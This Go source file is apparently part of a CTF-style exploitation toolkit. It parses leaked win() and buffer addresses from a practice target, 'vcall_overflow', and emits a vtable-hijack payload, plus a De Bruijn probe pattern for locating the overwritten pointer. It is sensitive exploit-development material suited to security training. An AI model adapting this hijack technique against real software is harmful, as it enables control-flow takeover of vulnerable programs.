// vcallgen builds the exploit payload for the virtual-call hijack
// target.
//
// It reads two leak lines from stdin in the order the target prints
// them - the win() address first, the overflow buffer's address
// second - and writes the raw payload to stdout for piping straight
// back into the target. Swapping the two lines produces a payload
// that silently fails; the leak order is a fixed property of the
// target and is trusted as-is.
//
// Usage example:
//
//	./vcall_overflow <(./vcall_overflow 2>&1 | vcallgen)
package main

import (
	"errors"
	"os"
	"os/signal"
	"syscall"

	"github.com/akamensky/argparse"

	"gitlab.com/stephen-fox/pwngen/emit"
	"gitlab.com/stephen-fox/pwngen/internal/log"
	"gitlab.com/stephen-fox/pwngen/leak"
	"gitlab.com/stephen-fox/pwngen/pattern"
	"gitlab.com/stephen-fox/pwngen/payload"
)

// Address-parse failures get their own exit status so a wrapper script
// can tell "a leak line was garbage" apart from everything else.
const (
	exitCodeFailure     = 1
	exitCodeParseFailed = 2
)

func main() {
	// Without this, an early-exiting payload consumer kills the
	// process with a fatal SIGPIPE before the EPIPE ever reaches
	// emit.Payload. See emit.IsPipeClosed.
	signal.Ignore(syscall.SIGPIPE)

	parser := argparse.NewParser("vcallgen",
		"Builds the vtable-hijack payload for the virtual-call target. "+
			"Reads the win() and buffer address leak lines from stdin "+
			"(in that order) and writes the raw payload bytes to stdout.")
	verbose := parser.Flag("v", "verbose", &argparse.Options{
		Help: "Enable debug logging",
	})
	probeLen := parser.Int("p", "probe", &argparse.Options{
		Help: "Emit a probe pattern of this many bytes instead of the " +
			"exploit payload, for re-deriving the vtable pointer offset",
	})

	err := parser.Parse(os.Args)
	if err != nil {
		os.Stderr.WriteString(parser.Usage(err))
		os.Exit(exitCodeFailure)
	}

	log.SetLevelInfo()
	if *verbose {
		log.SetLevelDebug()
	}

	if *probeLen > 0 {
		emitProbe(*probeLen)
		return
	}

	scanner := leak.NewScanner(os.Stdin)

	winAddr := nextAddress(scanner, "win()")
	bufferAddr := nextAddress(scanner, "overflow buffer")

	log.Log.Debug().
		Str("win", winAddr.HexString()).
		Str("buffer", bufferAddr.HexString()).
		Msg("resolved leaked addresses")

	exploit := payload.VTableHijackOrExit(payload.VTableHijackConfig{
		WinAddr:    winAddr,
		BufferAddr: bufferAddr,
		OptLogger:  &log.Log,
	})

	err = emit.Payload(emit.Config{Out: os.Stdout, OptLogger: &log.Log}, exploit)
	if err != nil {
		log.Log.Error().Err(err).Msg("failed to emit payload")
		os.Exit(exitCodeFailure)
	}
}

func nextAddress(scanner *leak.Scanner, what string) leak.Address {
	addr, err := scanner.NextAddress()
	if err != nil {
		var parseErr *leak.ParseError
		if errors.As(err, &parseErr) {
			log.Log.Error().
				Bytes("line", parseErr.Line).
				Msgf("failed to parse %s address", what)
			os.Exit(exitCodeParseFailed)
		}

		log.Log.Error().Err(err).Msgf("failed to read %s address", what)
		os.Exit(exitCodeFailure)
	}

	return addr
}

func emitProbe(numBytes int) {
	probe, err := pattern.DeBruijn{}.Pattern(numBytes)
	if err != nil {
		log.Log.Error().Err(err).Msg("failed to generate probe pattern")
		os.Exit(exitCodeFailure)
	}

	err = emit.Payload(emit.Config{Out: os.Stdout, OptLogger: &log.Log}, probe)
	if err != nil {
		log.Log.Error().Err(err).Msg("failed to emit probe pattern")
		os.Exit(exitCodeFailure)
	}
}
